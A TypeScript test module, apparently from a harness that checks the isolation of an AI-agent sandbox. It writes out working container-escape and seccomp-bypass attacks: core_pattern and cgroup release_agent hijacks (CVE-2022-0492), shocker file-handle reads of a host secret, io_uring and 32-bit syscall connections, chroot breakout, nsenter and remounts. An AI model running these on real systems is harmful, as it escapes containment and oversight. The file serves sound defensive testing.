/**
 * Blind attacks on the kernel: resources that namespaces do not cover, and system calls that filters forget.
 * Rule: the author had not read the guards; a setting of the machine that an attack changes is restored at once.
 */
import { execFileSync } from 'node:child_process';
import { existsSync, readFileSync, rmSync } from 'node:fs';
import type { Attack, Host } from '../attack.ts';
import { python } from './blind-python.ts';

const SHARED_FOLDERS = ['/tmp', '/var/tmp', '/dev/shm', '/run', '/run/lock'];
const READ_ONLY_FOLDERS = ['/usr', '/etc', '/opt', '/lib', '/bin', '/var/lib', '/root', '/srv'];

/** A `struct timex` whose estimated error is read (`modes` 0) or set (8); that value has no effect. */
const ADJTIMEX = `
import ctypes, struct
def estimated_error(modes, value=0):
    timex = ctypes.create_string_buffer(struct.pack('=Iiqqqq', modes, 0, 0, 0, 0, value), 256)
    result = ctypes.CDLL(None, use_errno=True).adjtimex(timex)
    return struct.unpack_from('=q', timex, 32)[0] if result >= 0 else -1`;
const MARKED_ERROR_US = 123_457;

/** Attacks by way of the kernel. */
export const blindKernel: readonly Attack[] = [
  {
    name: 'line-in-the-kernel-log',
    area: 'kernel',
    tries: "Makes a device node for the kernel's log and writes a line that the host's administrator will read",
    command: (host) => `mknod log c 1 11; echo '${mark(host)}' > log; echo '${mark(host)}' > /dev/kmsg; rm -f log`,
    needs: ['dmesg'],
    succeeded: async (host) => execFileSync('dmesg', { encoding: 'utf8', maxBuffer: 1 << 26 }).includes(mark(host)),
  },
  {
    name: 'clock-adjusted',
    area: 'kernel',
    tries: "Adjusts the machine's clock, by a field that does no harm",
    command: () => python(`${ADJTIMEX}\nprint(estimated_error(8, ${MARKED_ERROR_US}))`),
    needs: ['python3'],
    succeeded: async () => {
      const read = `${ADJTIMEX}\nprint(estimated_error(0))`;
      const isMarked = Number(execFileSync('python3', ['-c', read], { encoding: 'utf8' })) === MARKED_ERROR_US;
      if (isMarked) execFileSync('python3', ['-c', `${ADJTIMEX}\nestimated_error(8, 16000000)`]);
      return isMarked;
    },
  },
  {
    name: 'core-pattern-runs-a-program',
    area: 'kernel',
    tries: 'Names the program that the kernel runs on the host as root for a crash, then crashes',
    command: (host) => `old=$(cat /proc/sys/kernel/core_pattern)
      if echo '|/bin/touch ${host.canary('core')}' > /proc/sys/kernel/core_pattern; then
        ulimit -c 1; sh -c 'kill -SEGV $$'; sleep 0.5; echo "$old" > /proc/sys/kernel/core_pattern
      fi`,
    notFor: { none: 'for a moment it would change what this whole machine does at a crash' },
    succeeded: async (host) => existsSync(host.canary('core')),
  },
  {
    name: 'release-agent-of-a-cgroup',
    area: 'kernel',
    tries:
      'Mounts a version 1 cgroup in a namespace of its own and has the kernel run its release agent (CVE-2022-0492)',
    command: (host) => `printf '#!/bin/sh\\ntouch ${host.canary('released')}\\n' > agent; chmod 755 agent; mkdir m
      for kind in rdma misc perf_event net_cls hugetlb pids memory; do
        unshare -UrmC sh -c "mount -t cgroup -o $kind none m && mkdir -p m/x && echo 1 > m/x/notify_on_release &&
          cat m/release_agent > old && echo ${host.workspace}/agent > m/release_agent &&
          sh -c 'echo 0 > m/x/cgroup.procs'; sleep 0.2; [ -e old ] && cat old > m/release_agent; rmdir m/x"
      done`,
    succeeded: async (host) => existsSync(host.canary('released')),
  },
  {
    name: 'key-left-in-a-keyring',
    area: 'kernel',
    tries: "Leaves a key in the kernel's keyring of its user, where the next agent finds it",
    command: (host) =>
      python(`
import ctypes, platform
libc = ctypes.CDLL(None)
add, control = (248, 250) if platform.machine() == 'x86_64' else (217, 219)
for ring in (-4, -5, -3):
    key = libc.syscall(add, b'user', b'${mark(host)}', b'message', 7, ring)
    print(key, libc.syscall(control, 5, key, 0x3f3f3f3f), libc.syscall(control, 15, key, 60))`),
    commands: () => ['true'],
    needs: ['python3'],
    succeeded: async (host) => existsSync('/proc/keys') && readFileSync('/proc/keys', 'utf8').includes(mark(host)),
  },
  {
    name: 'messages-left-for-the-next-agent',
    area: 'kernel',
    tries: "Leaves files in the host's shared folders and a System V segment, for other agents on it to find",
    command: (host) => `for f in ${SHARED_FOLDERS.join(' ')}; do echo x > $f/${mark(host)}; done
      ipcmk -M 4096 -p 0666; ${python(`
import ctypes
print(ctypes.CDLL(None).shmget(${segmentKey(host)}, 4096, 0o1666))`)}`,
    succeeded: async (host) => {
      const files = SHARED_FOLDERS.map((folder) => `${folder}/${mark(host)}`).filter((path) => existsSync(path));
      for (const path of files) rmSync(path);
      const isSegmentLeft = new RegExp(`^ *${segmentKey(host)} `, 'm').test(readFileSync('/proc/sysvipc/shm', 'utf8'));
      if (isSegmentLeft) execFileSync('ipcrm', ['-M', String(segmentKey(host))]);
      return files.length > 0 || isSegmentLeft;
    },
  },
  {
    name: 'file-opened-by-its-handle',
    area: 'kernel',
    tries: "Opens the root of the disk below its mounts by inode number, and walks to the host's secret (shocker)",
    command: (host) =>
      python(`
import ctypes, os, struct
libc, target = ctypes.CDLL(None, use_errno=True), '${host.folder}/secret.txt'
places = {line.split()[4] for line in open('/proc/self/mountinfo')} | {'.'}
for place in places:
    try: fd = os.open(place, os.O_RDONLY)
    except OSError: continue
    for inode in (2, 128, 256):
        handle = ctypes.create_string_buffer(struct.pack('=IiII', 8, 1, inode, 0), 16)
        root = libc.open_by_handle_at(fd, handle, os.O_RDONLY)
        parts = target.strip('/').split('/')
        for start in range(len(parts) if root >= 0 else 0):
            try: print(os.read(os.open('/'.join(parts[start:]), os.O_RDONLY, dir_fd=root), 200))
            except OSError: pass
    os.close(fd)`),
    needs: ['python3'],
    succeeded: async (host, { output }) => output.includes(host.secret),
  },
  {
    name: 'connection-by-io-uring',
    area: 'network',
    tries: 'Makes a socket and connects it through io_uring, past a filter of the system calls that would do so',
    command: (host) =>
      python(`
import ctypes, mmap, os, socket, struct
libc = ctypes.CDLL(None, use_errno=True)
params = ctypes.create_string_buffer(120)
ring = libc.syscall(425, 4, params)
print('ring', ring, os.strerror(ctypes.get_errno()))
sq, cq = struct.unpack_from('=10I', params, 40), struct.unpack_from('=10I', params, 80)
queue, entries = mmap.mmap(ring, 8192, offset=0), mmap.mmap(ring, 4096, offset=0x10000000)
number = lambda at: struct.unpack_from('=I', queue, at)[0]
def submit(opcode, fd, offset, address=0, length=0):
    struct.pack_into('=BBHiQQI', entries, 0, opcode, 0, 0, fd, offset, address, length)
    tail = number(sq[1])
    struct.pack_into('=I', queue, sq[6] + 4 * (tail & number(sq[2])), 0)
    struct.pack_into('=I', queue, sq[1], tail + 1)
    libc.syscall(426, ring, 1, 1, 1, None, 0)
    head = number(cq[0])
    result = struct.unpack_from('=Qi', queue, cq[5] + 16 * (head & number(cq[2])))[1]
    struct.pack_into('=I', queue, cq[0], head + 1)
    return result
made = submit(45, socket.AF_INET, socket.SOCK_STREAM)
address = ctypes.create_string_buffer(struct.pack('=HH', 2, socket.htons(${host.tcpPort})) + socket.inet_aton('127.0.0.1'), 16)
print('socket', made, 'connect', submit(16, made, 16, ctypes.addressof(address)))`),
    needs: ['python3'],
    succeeded: async (host) => host.reached(),
  },
  {
    name: 'connection-by-32-bit-system-calls',
    area: 'network',
    tries: 'Connects by int 0x80, whose system calls have other numbers than those that a filter may look for',
    command: (host) =>
      python(`
import ctypes, mmap, socket, struct
page = mmap.mmap(-1, 4096, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40, prot=7)
code = bytes.fromhex('5389f889f387d1cd805bc3')
address = struct.pack('=HH', 2, socket.htons(${host.tcpPort})) + socket.inet_aton('127.0.0.1') + bytes(8)
page[:len(code)], page[64:64 + len(address)] = code, address
start = ctypes.addressof(ctypes.c_char.from_buffer(page))
call = ctypes.CFUNCTYPE(ctypes.c_int, *[ctypes.c_uint] * 4)(start)
made = call(359, 2, 1, 0)
print('socket', made, 'connect', call(362, made, start + 64, 16))`),
    needs: ['python3'],
    succeeded: async (host) => host.reached(),
  },
  {
    name: 'namespaces-of-other-processes',
    area: 'kernel',
    tries: 'Joins the namespaces of every process that it sees, and walks through their roots',
    command: (host) => `for p in /proc/[0-9]*; do
        timeout 2 nsenter -t "\${p#/proc/}" -a touch ${host.canary('joined')}
        timeout 2 nsenter -t "\${p#/proc/}" -U --preserve-credentials -m touch ${host.canary('joined')}
        : > "$p/root${host.canary('joined')}"; : > "$p/cwd/../../..${host.canary('joined')}"
      done 2>/dev/null; true`,
    notFor: { none: 'it needs no isolation to write there' },
    succeeded: async (host) => existsSync(host.canary('joined')),
  },
  {
    name: 'breakout-by-chroot',
    area: 'kernel',
    tries: 'Makes a root of its own inside of its root and climbs out of both',
    command: (host) => {
      const climb = `
import os
os.makedirs('inner', exist_ok=True)
out = os.open('/', os.O_RDONLY)
os.chroot('inner')
os.fchdir(out)
for _ in range(64): os.chdir('..')
os.chroot('.')
open('${host.canary('climbed')}', 'w').close()`;
      return `${python(climb)}\nunshare -Urm ${python(climb)}`;
    },
    needs: ['python3'],
    notFor: { none: 'it needs no isolation to write there' },
    succeeded: async (host) => existsSync(host.canary('climbed')),
  },
  {
    name: 'read-only-mounts-made-writable',
    area: 'kernel',
    tries:
      "Makes what is mounted read-only writable, with and without a namespace of its own, and writes to the host's /usr",
    command: (host) => `cat > try.sh <<'END'
        umask 0; while read -r _ _ _ _ at _; do mount -o remount,bind,rw "$at"; umount -l "$at"; done < /proc/self/mountinfo
        for f in ${READ_ONLY_FOLDERS.join(' ')}; do : > $f/${mark(host)}; done
END
      unshare -Urm sh try.sh 2>/dev/null; sh try.sh 2>/dev/null; true`,
    notFor: { none: 'it would unmount whatever it can' },
    succeeded: async (host) => {
      const made = READ_ONLY_FOLDERS.map((folder) => `${folder}/${mark(host)}`).filter((path) => existsSync(path));
      for (const path of made) rmSync(path);
      return made.length > 0;
    },
  },
];

/** A word that only this trial uses. */
function mark(host: Host): string {
  return `blind-${host.abstractSocket}`;
}

function segmentKey(host: Host): number {
  return 0x0c0d_0000 + host.tcpPort;
}
